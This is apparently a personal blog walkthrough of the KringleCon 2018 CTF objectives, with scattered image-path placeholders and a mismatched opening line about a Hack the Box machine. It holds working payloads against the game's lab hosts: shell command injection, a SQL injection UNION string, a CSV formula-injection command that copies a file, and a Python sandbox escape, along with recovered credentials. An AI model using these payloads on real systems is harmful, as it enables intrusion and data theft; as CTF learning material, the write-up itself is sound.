Learning as I go

Kringlecon 2018 Walk through

Posted at — Jan 16, 2019

Walkthrough of machine Luke from Hack the Box. Key findings include exposed credentials & running a web service as a privileged user.

Objective 1 – Orientation Challenge

First stop was Bushy Evergreen with Essential Editor Skills. Solving it was simply a :q command in vim to quit.

For this challenge I couldn’t get the kiosk to load in-game. From asking in chat someone gave the direct URL – https://www.holidayhackchallenge.com/2018/challenges/osint_challenge_windows.html

Finding the answers was a combination of listening to the Ed Skoudis talk, browsing through the previous year’s challenge details on https://www.holidayhackchallenge.com/ & drawing on my memories from attempting the 2016 challenge. I did try and browse the page source to get the answers (no ‘submit’ button) but the code was too heavily obfuscated. Answers submitted are below.

After putting each of the right answers in the screen changes to the answer – ‘Happy Trails’.

Objective 2 – Directory BrowsingFirst was off to Minty Candycane to solve The Name Game Challenge. After experimenting with option 1 & 2 in the console menu I could only make command injection work on option 2. Option 2 appeared to want an address to ping & I found after putting localhost I could inject a command after that using &.

Through tinkering I managed to work out the Powershell script called is menu.ps1, the system appeared to be Linux (it wouldn’t recognise the type shell command) & dumping the PowerShell script (via injecting cat) showed there was an option 9 which invoked PowerShell (pwsh) directly. After selecting option 9 I could run sqlite3 directly. Through examining the table (.schema onboard) I found the appropriate user (Scott Chan).

Loaded up the CFP site at https://cfp.kringlecastle.com/index.html. From browsing the site I found two main pages – the webroot& cfp/cfp.html (nothing was in robots.txt). Noted that cfp/cfp.html was not loading from a normal index page. Attempting to browse to cfp/ showed two files, cfp.html & rejected-talks.csv.

A simple search for ‘Data Loss for Rainbow Teams: A Path in theDarkness’ in the rejected talks file showed the answer – ‘John McLane’.

Objective 3 – de Bruijn Sequences

First I solved the Lethal ForensicELFication Cranberry PI challenge. Answer found from reading the .viminfo file was Elinore.

Getting into the room requires breaking the door combination lock. From reading the source of the door combination pop up I found three things of interest. First is the JavaScript logs certain things to console (I loaded up the web console after finding this to observe), second is it tests combinations against another URL (so no easy plucking out the code :-() & last is the codes will wrap around.

Selecting a few shapes and watching the web console shows my hunch was correct – triangle was zero, square was one, circle was two & star was three.

From there I started reading about de Bruijn sequences and having a look at the sequence generator Tangle Coalbox gave from a hint. From my initial read through, de Bruijn is a sequence where allpossible n length sequences occur once. This meant if I entered the sequence in order I would cover all possible keys.

Putting in k of 4 (I have four shapes to choose from) & n of 4 (I need a four value passcode). Punching each value of the sequence into the lock (using the identified shape / number substation) eventually gave me the correct answer of 0120 (Triangle Square Circle Triangle). Amusingly I did skip past it and not notice I had the correct answer at the first (took some trial and error to go back – that and noticing when the console log changed to confirm correct code submission).

Entering the unprepared speakers room and chatting with Morcel Nougat gave me the answer – ‘Welcome unprepared Speaker!’.

Objective 4 – Data Repo Analysis

First step was solving the Stall Mucking Report challenge. This required looking at the command line options passed to a process for the username (report-upload) and password (directreindeerflatterystable). I had trouble trying to get this from ps aux – ended up needing to pipe the output to cat which showed me all the commands. After submitting the answer (uploading the file) Wunorse Openslae gave me a hint to look at tool called Trufflehog.

Next we are off to the Kringlecastle git repository – https://git.kringlecastle.com/Upatree/santas_castle_automation.After having a browse around I cloned the gitrepository onto my local machine. A basic find command shows me a zip file in the schematics directory. Throwing trufflehog at the repository yields a number of interesting items, including a password used to protect sensitive files – Yippee-ki-yay. Trying this on the encrypted zip file works – we have the solution & likely map for the ventilation ducks (must explore them later).

Objective 5 – AD Privilege Discovery

First step was solving CURLing Master. I was stuck here for a while only using –http2 as an option for curl (and would get random characters back each time). To try all theoptions I ended up passing –http2-prior-knowledge instead of –http2. Getting a firm answer there I could solve the challenge (command curl –http2-prior-knowledge –data “status=on” http://localhost:8080/index.php).From further reading my understanding is the nginx configuration only supports http2, so passing –http2 means the system would keep trying a http1.1 request and attempting to upgrade to http2 (which was failing). Given http2 transfers over binary, the random characters I received back were the binary response.

Hint received from Holly Evergreen is to use BloodHound to solve the objective challenge. Watched the BloodHound video from the hints and read a little bit

Downloading the virtual machine image & we are off to solve the next part. From here I ran ‘Shortest Paths to Domain Admins from Kerberoastable Users’ query inside Bloodhound. It gave me the user LDUBEJ00320@AD.KRINGLECASTLE.COM / Leanne Dubej. Initially I submitted Leanne Dubej & LDUBEJ00320 and had my answers rejected (bummer). At a whim I submitted LDUBEJ00320@AD.KRINGLECASTLE.COM & had the objective marked off. Need to come back in 2019 and learn a lot more about Active Directory (I know virtually nothing)

Objective 6 – Badge Manipulation

First step was solving Pepper Minstix Yule Log Analysis. The evtx file was dumped to xml using the supplied python script. From there I scanned the file for various logon file messages. In the end I found a pattern for Logon Type 8 (NetworkCleartext) that looked like an external party was enumerating through a userlist. After scanning through the list manually I noticed a failed logon against all users (code %%2313) except minty.candycane.

Next step is to get better at file analysis at the command line. I did this mostly manually with a little bit of grep assistance.

Pepper Minstix gives a hint for a QR code generator – https://www.the-qrcode-generator.com/. Scanning Alabaster’s badge gave a code of oRfjg5uGHmbduj2m. Creating a new QR code with this and uploading it shows it’s a valid id but disabled. Checking the hash suggestsis a Base64, but I couldn’t find any meaning to the decoded value.

Taking the elvish hints of this being a SQLi puzzle I add a union statement to the end of the SQL statement. Uploading it gives a more useful error response –

{"data":"EXCEPTION AT (LINE 96 \"user_info = query(\"SELECT first_name,last_name, enabled FROM employees WHERE authorized = 1 AND uid = '{}' LIMIT 1\".format(uid))\"): (1064, u\"You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version for the right syntax to use near '' LIMIT 1' at line 1\")","request":false}

From reading the error message I worked out the problem with the injected command. Tinkering a bit further I try Bob}’ UNION SELECT 1,2,3 FROM employees where ‘x’ = ‘x. This gives a successful response of

{"data":"User Access Granted - Control number 19880715","request":true,"success":
{"hash":"81e580f7af8d6001388367de24754b0eafaa90580b32b6f66b9a019f8b68f4c2","resourceId":"804c5411-08d9-462b-9e03-9c65b51c0e8b"}} and an open door.

From this we have the answer to the question – access control number from the door authentication panel is 19880715

Objective 7 – HR Incident Response

First is off to solve the Dev Ops Fail challenge from Sparkle Redberry. I spent a while manually reviewing the layout of the web page and reading through the hint files (not a huge git person). Afterfinding the likely password (server/configuration/config.js) location I then moved onto stepping through the git commit history.

From here I found the commit (68405b8a6dcaed07c20927cee1fb6d6c59b62cc3) that added the initial server configuration (guess was an exposed password would likely be here). Stepping through the commit using git cat-file -p gets us to:

// Database URL
module.exports = {
'url' : 'mongodb://sredberry:twinkletwinkletwinkle@'

Password found – twinkletwinkletwinkle

The objective was fairly straight forward to solve. After watching the Brian Hostetler talk & tinkering a little bit, the string I went with in the uploaded csv was

=cmd|'/C copy C:\candidate_evaluation.docx C:\careerportal\resources\public\bob.docx'!A0.

This allowed me to download the candidate_evaluation.docx file. As a side note the page only required a CSV file to be uploaded, I didn’t need to fill out any other details (weird).

Reading the file gives the answer – Fancy Beaver.

Objective 8 – Network Traffic Forensics

First is off to solve Python Escape from LA Cranberry Pi terminal challenge with SugarPlum Mary. After watching the talk on Python escapes & experimenting I found the eval command was not being filtered. Using it along with a custom variable name did the trick.

>>> bob = eval('__imp' + 'ort__("os")')
>>> bob.system("id")
uid=1000(elf) gid=1000(elf) groups=1000(elf)
>>> bob.system("ls")
>>> bob.system("i_escaped")
sh: 1: i_escaped: not found
>>> bob.system("./i_escaped")
Loading, please wait......

____ _ _
| _ \ _ _| |_| |__ ___ _ __
| |_) | | | | __| '_ \ / _ \| '_ \
| __/| |_| | |_| | | | (_) | | | |
|_|___ \__, |\__|_| |_|\___/|_| |_| _ _
| ____||___/___ __ _ _ __ ___ __| | |
| _| / __|/ __/ _` | '_ \ / _ \/ _` | |
| |___\__ \ (_| (_| | |_) | __/ (_| |_|
|_____|___/\___\__,_| .__/ \___|\__,_(_)
That's some fancy Python hacking -
You havesent that lizard packing!
-SugarPlum Mary

After completing the Cranberry PI challenge we get a few more hints on how to solve packalyzer. There is supposed to be development code sitting in the web root & html comments will provide hints on what it is. Environment variables will also be useful and manipulating URLs is supposed to give weird and descriptive errors.

First step is having a play with the interface. It lets a packet capture be taken, shows an initial summary on screen & lets you download it for further analysis offline. Downloading one into WireShark shows TCP & TLS1.2 traffic. From watching the HTTP2 talk I guess this to be HTTP2 traffic which keys are needed to decode.

Stepping through the source of the main logged in page shows a number of things of interest:

Digging through the site shows directory names are shortened (‘pub’, ‘img’). If I try to load a directory that is there over port 443 I get a ‘Error: EISDIR: illegal operation on a directory, read’ error message that lets me know it exists (whereas stuff that doesn’t exist is simply a ‘not found’). Further probing shows there is an uploads/ & dev/ directory.

After a lot of digging the site and nudges from people online app.js is found athttps://packalyzer.kringlecastle.com/pub/app.js. Reading this tells me there is a key log file which stores the last few minutes of keys and it’s stored in environment variable SSLKEYLOGFILE. Trying to load the variable name from the webroot at https://packalyzer.kringlecastle.com/SSLKEYLOGFILE/ gives me another error message Error: ENOENT: no suchfile or directory, open ‘/opt/http2packalyzer_clientrandom_ssl.log/’

Noticing that other paths start with /opt/http2 deduces we need a / added into the url. After trying to load packalyzer_clientrandom_ssl.log off the known URL prefixes itis eventually found at https://packalyzer.kringlecastle.com/dev/packalyzer_clientrandom_ssl.log. Thank you to roboto from Discord for pointing me in the right direction

Downloading & throwing this into WireShark unfortunately gives me nothing. After pondering for a bit realisation strikes that the keys recorded and packet capture are from two different timeframes. Repeating the exercise back to back & loadinginto Wireshark gives a mostlydecrypted packet capture.

The packet capture mainly shows elves interacting with the packalyzer site. After digging for a while I find the following credentials:

The objective is to find the name of the song sent from Holly Evergreen to Alabaster Snowball. Given this I pick Alabaster’s account to loginto any find a super-secret PCAP file.

Analysing the PCAP file in Wireshark shows a good amount of port 25 traffic. Following the conversation reveals an email from Holly Evergreen to Alabaster Snowball containing a base64 encoded attachment. I extracted out the base64 & saved it to a text file. From trial and error I removed the line breaks (notepad++ – ctrl j) and all spaces (find spaces / replace with no spaces).

I tried running it through a command like echo -n b64attach2.txt | base64 –decode > attachment in kali linux on my windows machine, but it kept complaining base64: invalid input. In the end I uploaded the file to https://www.base64decode.org/ and it gave me the PDF. The link https://osqa-ask.wireshark.org/questions/61169/extract-an-attachment-from-a-sniffed-smtp-session was also useful to get me started.

Reading the PDF gave the answer – Mary Had a Little Lamb.

The PDF also provided a clue to solve the keyboard lock. Musical transposition will be involved.

Objective 9 – Ransomware Recovery

First is off to solve the Sleigh Bell Lottery challenge with Shinny Upatree. After reading through the suggested hint file this was fairly straightforward.

